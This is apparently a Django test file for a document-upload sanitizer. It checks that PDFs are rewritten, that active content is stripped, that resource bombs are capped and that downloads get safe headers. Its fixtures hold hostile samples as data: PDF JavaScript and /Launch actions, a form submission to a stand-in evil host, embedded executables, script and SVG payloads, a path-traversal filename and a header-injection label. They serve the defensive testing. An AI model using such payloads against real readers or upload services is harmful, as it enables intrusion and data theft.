"""Documents: judged by their bytes, renamed, sent as downloads."""

import io
import resource

import pikepdf
from django.core.exceptions import ValidationError
from django.http import Http404
from django.test import SimpleTestCase, override_settings
from django.utils import translation

from kanazawa2030.core.storages import private_storage
from kanazawa2030.core.uploads import documents

from .factories import compressed, encrypted, pages_in, pdf, plainly, png, upload

SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


class CleanDocumentTests(SimpleTestCase):
    def refusal(self, data, name="plan.pdf", code=None) -> str:
        with self.assertRaises(ValidationError) as caught:
            documents.clean_document(upload(data, name))
        if code:
            self.assertEqual(caught.exception.code, code)
        return caught.exception.messages[0]

    def taken(self, data: bytes) -> bytes:
        """The stored file with every object written plainly, to be searched."""
        cleaned = documents.clean_document(upload(data)).read()
        self.assertTrue(cleaned.startswith(b"%PDF-") and cleaned.endswith(b"%%EOF\n"))
        self.assertEqual(pages_in(cleaned), 1)
        return plainly(cleaned)

    def test_a_pdf_is_written_anew_under_another_name(self):
        data = pdf(
            catalog=b"/Lang (ja) /MarkInfo << /Marked true >> /PageMode /UseOutlines "
            b"/Outlines 4 0 R /OpenAction [3 0 R /FitH null]"
        )
        cleaned = documents.clean_document(upload(data, "企画書.pdf"))
        with pikepdf.open(cleaned) as document:
            self.assertEqual(len(document.pages), 1)
            self.assertEqual(list(document.pages[0].MediaBox), [0, 0, 200, 200])
            self.assertEqual((str(document.Root.Lang), document.Root.MarkInfo.Marked), ("ja", True))
        self.assertRegex(cleaned.name, r"\A[0-9a-f]{32}\.pdf\Z")
        self.assertEqual((cleaned.kind, cleaned.label), ("pdf", "企画書.pdf"))

    def test_the_bytes_decide_not_name_or_type(self):
        self.assertEqual(documents.clean_document(upload(pdf(), "a.exe")).label, "a.pdf")
        image = documents.clean_document(upload(png(), "photo.pdf"))
        self.assertEqual((image.kind, image.label), ("image", "photo.webp"))
        self.assertEqual(image.read(4), b"RIFF")

    def test_what_is_no_document_is_refused_with_its_name(self):
        bad = {
            "page.html": b"<!doctype html><script>alert(1)</script>",
            "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
            "plan.pdf": b"MZ\x90\x00" + b"\x00" * 50,
            "zip.pdf": b"PK\x03\x04" + b"\x00" * 50,
            "moving.gif": b"GIF89a" + b"\x00" * 50,
            "short.png": b"\x89PN",
        }
        for name, data in bad.items():
            with self.subTest(name):
                words = self.refusal(data, name, "kind")
                self.assertIn(name.rpartition(".")[0], words)

    def test_nothing_before_or_after_the_document_is_kept(self):
        """Junk before or after is how one file passes for another."""
        html = b"<script>alert(1)</script>"
        self.refusal(html + pdf())
        self.refusal(b"%PDF-1.7\nhello\n%%EOF\n", code="unreadable")
        for name, data in {
            "after": pdf() + html,
            "zip after": pdf() + b"PK\x05\x06" + b"\x00" * 18,
            "far after": pdf() + b"\n" * 200 + html,
            "between": pdf(b"(" + b"x" * 9) + html + pdf(),
        }.items():
            with self.subTest(name):
                plain = self.taken(data)
                self.assertNotIn(b"<script>", plain)
                self.assertNotIn(b"PK\x05\x06", plain)

    def test_what_scanners_and_offices_write_is_taken(self):
        """No final %%EOF, line ends or NULs behind it, protected against changes."""
        for name, data in {
            "no end": pdf(tail=b""),
            "line ends": pdf() + b"\r\n" * 500,
            "NULs": pdf() + b"\x00" * 4096,
            "protected against changes": encrypted(),
        }.items():
            with self.subTest(name):
                self.assertNotIn(b"/Encrypt", self.taken(data))
        self.refusal(encrypted(user="word"), code="locked")

    ACTIVE = {
        "script": pdf(SCRIPT, catalog=b"/OpenAction 4 0 R"),
        "hidden name": pdf(b"<< /S /J#61vaScript /JS (x) >>", catalog=b"/OpenAction 4 0 R"),
        "script in the tree of names": pdf(
            SCRIPT, catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"
        ),
        "launch": pdf(
            b"<< /S /Launch /F (cmd.exe) >>", page=b"/Annots [<< /Subtype /Link /A 4 0 R >>]"
        ),
        "in the next action": pdf(
            b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Launch /F (x) >>] >>",
            page=b"/Annots [<< /Subtype /Link /A 4 0 R >>]",
        ),
        "address of a script": pdf(
            b"<< /S /URI /URI (JavaScript:alert) >>",
            page=b"/Annots [<< /Subtype /Link /A 4 0 R >>]",
        ),
        "file in it": pdf(
            b"<< /Names [(a) << /Type /Filespec /EF << /F 5 0 R >> >>] >>",
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZxx\nendstream",
            catalog=b"/Names << /EmbeddedFiles 4 0 R >>",
        ),
        "attached to the page": pdf(
            b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZxx\nendstream",
            page=b"/Annots [<< /Subtype /FileAttachment /FS << /EF << /F 4 0 R >> >> >>]",
        ),
        "sends": pdf(b"<< /S /SubmitForm /F (http://evil.example) >>", page=b"/AA << /O 4 0 R >>"),
        "in a field": pdf(
            b"<< /FT /Tx /T (a) /AA << /K << /S /JavaScript /JS (x) >> >> >>",
            catalog=b"/AcroForm << /XFA 4 0 R /Fields [4 0 R] >>",
        ),
        "in an object stream": pdf(compressed(b"5 0 " + SCRIPT), catalog=b"/OpenAction 5 0 R"),
        "other coding": pdf(
            compressed(b"4 0 << >>", b"/Filter [/ASCII85Decode /FlateDecode]"),
            catalog=b"/OpenAction 5 0 R",
        ),
    }

    def test_active_content_is_removed(self):
        for name, data in self.ACTIVE.items():
            with self.subTest(name):
                plain = self.taken(data)
                for word in (
                    *(b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/OpenAction", b"/AA"),
                    *(b"/EF", b"/EmbeddedFile", b"/XFA", b"avaScript:", b"MZxx"),
                ):
                    self.assertNotIn(word, plain)

    def test_a_script_in_a_proper_object_stream_is_removed(self):
        """Two such files passed the search for names that came before the parser."""
        written = io.BytesIO()
        with pikepdf.open(io.BytesIO(self.ACTIVE["script"])) as document:
            document.trailer["/Size"] = 5
            document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        self.assertNotIn(b"/JavaScript", written.getvalue())
        self.assertIn(b"/JavaScript", plainly(written.getvalue()))
        self.assertNotIn(b"/JavaScript", self.taken(written.getvalue()))

    def test_links_and_places_stay(self):
        plain = self.taken(
            pdf(
                b"<< /S /URI /URI (https://example.jp/) >>",
                b"<< /S /GoTo /D [3 0 R /Fit] >>",
                page=b"/Annots [<< /Subtype /Link /A 4 0 R >> << /Subtype /Link /A 5 0 R >>]",
            )
        )
        self.assertIn(b"https://example.jp/", plain)
        self.assertIn(b"/GoTo", plain)

    def test_what_is_nothing_without_its_active_content_is_refused(self):
        self.refusal(pdf(catalog=b"/Collection << >>"), code="active")
        self.refusal(pdf(catalog=b"/AcroForm << /XFA (x) /Fields [] >>"), code="active")

    def test_a_costly_file_ends_at_a_limit(self):
        """Each in a process of its own: seconds of it at most, nothing of this one."""
        many = documents.pdf_rewriter.MOST_OBJECTS
        for name, objects in {
            "streams": [b"stream\n" * 150_000],
            "objects": [b"null\nendobj\n4 0 obj\n" * (many + 1)],
            "a long array": [b"[" + b"1 " * (many + 1) + b"]"],
            "deep": [b"[" * 1_000_000],
            "bomb": [compressed(b" " * 50_000_000)],
            "tables": [b"xref\n0 9\n" * 100_000],
        }.items():
            with self.subTest(name):
                before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime
                try:
                    documents.clean_document(upload(pdf(*objects)))
                except ValidationError as error:
                    self.assertIn(error.code, ("costly", "unreadable"))
                spent = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime - before
                self.assertLess(spent, documents.pdf_rewriter.SECONDS + 1)

    @override_settings(DOCUMENT_MAX_BYTES=500)
    def test_size(self):
        self.assertIn("MB", self.refusal(pdf(b" " * 500), code="too_heavy"))
        self.refusal(b"", code="empty")
        with translation.override("en"):
            self.assertEqual(self.refusal(b""), "“plan.pdf” is empty. Choose the file again.")

    def test_an_image_bomb_is_refused_in_words(self):
        data = bytearray(png())
        data[16:24] = (60_000).to_bytes(4, "big") * 2  # what its header claims to be
        words = self.refusal(bytes(data), "big.png")
        self.assertIn("big", words)

    def test_shown_names(self):
        for given, shown in {
            "../../etc/passwd": "passwd",
            "C:\\Users\\x\\plan.final.pdf": "plan.final",
            'a"b<c>.pdf': "a b c",
            "\u202efdp.exe": "fdp",
            "": "file",
            ".pdf": "pdf",
            "あ" * 300 + ".pdf": "あ" * 100,
        }.items():
            with self.subTest(given):
                self.assertEqual(documents.shown_name(given), shown)


class DownloadTests(SimpleTestCase):
    def setUp(self):
        self.name = private_storage().save("proposals/x.pdf", upload(pdf()))
        self.addCleanup(private_storage().delete, self.name)

    def test_only_ever_a_download(self):
        response = documents.download(self.name, kind="pdf", label="企画\r\nX: y.pdf")
        self.assertEqual(response["Content-Type"], "application/pdf")
        self.assertTrue(response["Content-Disposition"].startswith("attachment"))
        self.assertNotIn("\n", response["Content-Disposition"])
        self.assertEqual(response["X-Content-Type-Options"], "nosniff")
        self.assertIn("sandbox", response["Content-Security-Policy"])
        self.assertEqual(response["Cache-Control"], "private, no-store")
        self.assertEqual(b"".join(response), pdf())
        response.close()

    @override_settings(PRIVATE_MEDIA_ACCEL="/private/")
    def test_nginx_sends_it(self):
        response = documents.download(self.name, kind="pdf", label="plan.pdf")
        self.assertEqual(response["X-Accel-Redirect"], f"/private/{self.name}")
        self.assertEqual(response.content, b"")

    def test_a_missing_file_is_404(self):
        with self.assertRaises(Http404):
            documents.download("proposals/none.pdf", kind="pdf", label="x.pdf")
